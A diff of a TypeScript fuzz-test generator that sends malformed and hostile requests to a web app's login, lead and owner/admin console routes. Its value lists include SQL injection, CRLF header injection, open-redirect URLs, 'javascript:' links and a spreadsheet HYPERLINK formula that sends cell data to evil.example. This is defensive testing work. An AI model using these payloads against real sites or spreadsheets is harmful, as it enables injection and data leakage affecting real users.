@@ -15,6 +15,10 @@ export interface SiteFacts {
   locationIds: string[];
   /** `Name=value; Name=value` of an anonymous session, for the APIs that need one. */
   sessionCookie: string;
+  /** Cookies of a listing owner and an admin (the fixture accounts), to reach past the consoles' guards. */
+  signedInCookies: string[];
+  /** Ids of the fixture promotion, invoice, lead and claim: the consoles' forms and query strings take them. */
+  recordIds: string[];
   /** Place photos already drawn (the first request of a demo photo draws it, which takes seconds). */
   warmImages: { placeId: string; index: number }[];
 }
@@ -134,15 +138,56 @@ const PLAUSIBLE: Record<string, fc.Arbitrary<string>> = {
   password: fc.constantFrom("correct horse battery", "short", "x".repeat(129)),
   name: fc.constantFrom("Ann", "", "Robert'); DROP TABLE users;--"),
   remember: fc.constantFrom("on", "off", "true"),
-  intent: fc.constantFrom("login", "signup", "logout"),
+  intent: fc.constantFrom(
+    "login",
+    "signup",
+    "logout",
+    "lead",
+    "reply",
+    "status",
+    "request",
+    "change",
+    "cancel",
+    "renew",
+    "portal",
+    "pay",
+    "owner-assign",
+  ),
   ids: fc.constantFrom("ChIJabc123def456,ChIJxyz789uvw012", "a,b,c,d,e", "only_one_id_here", ",,", "a<b,c", ""),
   rvLength: fc.constantFrom("40", "9", "101", "40.5", "forty", ""),
   rvHeight: fc.constantFrom("13", "5", "21", ""),
+  // The lead form and the consoles' forms (issue 30: a line break in a one-line field, a `back`
+  // that leaves the site, a plan change, a forged request id).
+  rvType: fc.constantFrom("class_a", "fifth_wheel", "boat", "bogus"),
+  rvLengthFeet: fc.constantFrom("38", "0", "101", "38.5", "x"),
+  cover: fc.constantFrom("covered", "any", "indoor", "bogus"),
+  moveIn: fc.constantFrom("2026-12-01", "2026-02-30", "soon", ""),
+  phone: fc.constantFrom("+1 512 555 0100", "555", "+1 512\r\n555", "=1+1", ""),
+  message: fc.constantFrom("Do you have a space?", "URGENT\r\nhttps://evil.example/login", '=HYPERLINK("x")', ""),
+  back: fc.constantFrom(
+    "/owner/leads",
+    "/owner/leads\r\nSet-Cookie: x=1",
+    "//evil.example",
+    "https://evil.example/",
+    "",
+  ),
+  status: fc.constantFrom("new", "contacted", "closed", "bogus"),
+  tier: fc.constantFrom("Basic", "Pro", "Premium", "Free", "bogus"),
+  interval: fc.constantFrom("month", "year", "week"),
+  website: fc.constantFrom("https://example.com", "javascript:alert(1)", "data:text/html,x", "example.com"),
+  parkingOptions: fc.constantFrom("Covered", '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "@SUM(1+1)"),
+  session_id: fc.constantFrom("cs_test_123", "", "x".repeat(300)),
 };
 const KNOWN_KEYS = Object.keys(PLAUSIBLE);
 
 /** A value for `key`: usually plausible, sometimes unicode, control characters, numbers or very long. */
-function valueFor(key: string): fc.Arbitrary<{ text: string; long: boolean }> {
+function valueFor(key: string, site?: SiteFacts): fc.Arbitrary<{ text: string; long: boolean }> {
+  const ids = site?.recordIds ?? [];
+  if (ids.length > 0 && (RECORD_FIELDS.includes(key) || key === "promotion"))
+    return fc.oneof(
+      { weight: 4, arbitrary: fc.constantFrom(...ids).map((text) => ({ text, long: false })) },
+      { weight: 1, arbitrary: valueFor("x") },
+    );
   // Free text that reaches parsers (place names, coordinates, search text) gets long values more often.
   const longWeight = ["where", "q"].includes(key) ? 6 : 1;
   const short = (arb: fc.Arbitrary<string>) => arb.map((text) => ({ text, long: false }));
@@ -193,6 +238,10 @@ const ROUTE_KEYS: Record<string, string[]> = {
   "/login": ["redirectTo"],
   "/business/login": ["redirectTo"],
   "/signup": ["redirectTo"],
+  "/owner/checkout": ["promotion"],
+  "/owner/checkout/success": ["promotion", "session_id"],
+  "/owner/leads": ["back", "status"],
+  "/admin/locations/export": ["format"],
 };
 
 const queryKey = (route: string) =>
@@ -204,7 +253,7 @@ const queryKey = (route: string) =>
   );
 
 /** A query string with repeated keys, garbage escapes, empty pairs and sometimes no `=`. */
-const queryString = (route: string): fc.Arbitrary<{ text: string; long: boolean }> =>
+const queryString = (route: string, site: SiteFacts): fc.Arbitrary<{ text: string; long: boolean }> =>
   fc.oneof(
     { weight: 1, arbitrary: fc.constant({ text: "", long: false }) },
     {
@@ -212,7 +261,7 @@ const queryString = (route: string): fc.Arbitrary<{ text: string; long: boolean 
       arbitrary: fc
         .array(
           queryKey(route).chain((key) =>
-            fc.tuple(fc.constant(key), encodedValue(valueFor(key)), fc.boolean(), fc.integer({ min: 1, max: 3 })),
+            fc.tuple(fc.constant(key), encodedValue(valueFor(key, site)), fc.boolean(), fc.integer({ min: 1, max: 3 })),
           ),
           { minLength: 1, maxLength: 8 },
         )
@@ -393,18 +442,38 @@ interface BodyChoice {
 }
 
 const FORM_FIELDS = ["email", "password", "name", "redirectTo", "remember", "intent"];
+/** The lead form's and the consoles' fields, sent when the request carries a signed-in cookie or names a facility. */
+const RECORD_FIELDS = ["promotionId", "leadId", "invoiceId", "claimId", "id"];
+const OTHER_FIELDS = [
+  "rvType",
+  "rvLengthFeet",
+  "cover",
+  "moveIn",
+  "phone",
+  "message",
+  "back",
+  "status",
+  "tier",
+  "interval",
+  "website",
+  "parkingOptions",
+];
 
-const formBody: fc.Arbitrary<BodyChoice> = fc
-  .array(
-    fc.constantFrom(...FORM_FIELDS, "x").chain((key) => fc.tuple(fc.constant(key), encodedValue(valueFor(key)))),
-    {
-      maxLength: 6,
-    },
-  )
-  .map((pairs) => ({
-    body: Buffer.from(pairs.map(([k, v]) => `${k}=${v.text}`).join("&")),
-    contentType: "application/x-www-form-urlencoded",
-  }));
+const formBody = (site: SiteFacts): fc.Arbitrary<BodyChoice> =>
+  fc
+    .array(
+      fc
+        .oneof(
+          { weight: 3, arbitrary: fc.constantFrom(...FORM_FIELDS, "x") },
+          { weight: 3, arbitrary: fc.constantFrom(...OTHER_FIELDS, ...RECORD_FIELDS) },
+        )
+        .chain((key) => fc.tuple(fc.constant(key), encodedValue(valueFor(key, site)))),
+      { maxLength: 8 },
+    )
+    .map((pairs) => ({
+      body: Buffer.from(pairs.map(([k, v]) => `${k}=${v.text}`).join("&")),
+      contentType: "application/x-www-form-urlencoded",
+    }));
 
 const analyticsEvent = fc.record(
   {
@@ -456,32 +525,33 @@ const multipartBody: fc.Arbitrary<BodyChoice> = fc
     };
   });
 
-const bodyChoice: fc.Arbitrary<BodyChoice> = fc.oneof(
-  { weight: 6, arbitrary: fc.constant({ body: Buffer.alloc(0), contentType: null }) },
-  { weight: 3, arbitrary: formBody },
-  { weight: 3, arbitrary: jsonBody },
-  { weight: 1, arbitrary: multipartBody },
-  {
-    weight: 2,
-    arbitrary: fc
-      .tuple(
-        fc.uint8Array({ maxLength: 4096 }),
-        fc.constantFrom(null, "application/octet-stream", "text/plain", "application/json"),
-      )
-      .map(([bytes, contentType]) => ({ body: Buffer.from(bytes), contentType })),
-  },
-  {
-    // Huge-ish: up to a few megabytes of one byte, as cheap to make as to send.
-    weight: 1,
-    arbitrary: fc
-      .tuple(
-        fc.constantFrom(70 * 1024, 300 * 1024, 1024 * 1024, 3 * 1024 * 1024),
-        fc.constantFrom(0x61, 0x7b, 0x00, 0x26),
-        fc.constantFrom("application/json", "application/x-www-form-urlencoded", "text/plain"),
-      )
-      .map(([size, byte, contentType]) => ({ body: Buffer.alloc(size, byte), contentType })),
-  },
-);
+const bodyChoice = (site: SiteFacts): fc.Arbitrary<BodyChoice> =>
+  fc.oneof(
+    { weight: 6, arbitrary: fc.constant({ body: Buffer.alloc(0), contentType: null }) },
+    { weight: 3, arbitrary: formBody(site) },
+    { weight: 3, arbitrary: jsonBody },
+    { weight: 1, arbitrary: multipartBody },
+    {
+      weight: 2,
+      arbitrary: fc
+        .tuple(
+          fc.uint8Array({ maxLength: 4096 }),
+          fc.constantFrom(null, "application/octet-stream", "text/plain", "application/json"),
+        )
+        .map(([bytes, contentType]) => ({ body: Buffer.from(bytes), contentType })),
+    },
+    {
+      // Huge-ish: up to a few megabytes of one byte, as cheap to make as to send.
+      weight: 1,
+      arbitrary: fc
+        .tuple(
+          fc.constantFrom(70 * 1024, 300 * 1024, 1024 * 1024, 3 * 1024 * 1024),
+          fc.constantFrom(0x61, 0x7b, 0x00, 0x26),
+          fc.constantFrom("application/json", "application/x-www-form-urlencoded", "text/plain"),
+        )
+        .map(([size, byte, contentType]) => ({ body: Buffer.alloc(size, byte), contentType })),
+    },
+  );
 
 const CONTENT_TYPES = [
   "application/json",
@@ -585,6 +655,7 @@ function otherHeaders(site: SiteFacts): fc.Arbitrary<{ headers: Header[]; hostle
           fc.oneof(
             fc.constant(site.sessionCookie),
             fc.constant(site.sessionCookie),
+            ...site.signedInCookies.flatMap((cookie) => [fc.constant(cookie), fc.constant(cookie)]),
             headerText,
             fc.constantFrom(
               "rvs.session_token=garbage",
@@ -689,7 +760,7 @@ export function requestArbitrary(templates: string[], site: SiteFacts): fc.Arbit
       fc.tuple(
         fc.constant(route),
         pathFor(route, site),
-        queryString(route),
+        queryString(route, site),
         fc.constantFrom("origin", "origin", "origin", "origin", "absolute", "foreign", "fragment"),
       ),
     );
@@ -705,7 +776,7 @@ export function requestArbitrary(templates: string[], site: SiteFacts): fc.Arbit
         { weight: 1, arbitrary: fc.constant("HTTP/1.0" as const) },
       ),
       headers: otherHeaders(site),
-      body: bodyChoice,
+      body: bodyChoice(site),
       contentType: fc.oneof(
         { weight: 6, arbitrary: fc.constant("match") },
         { weight: 1, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
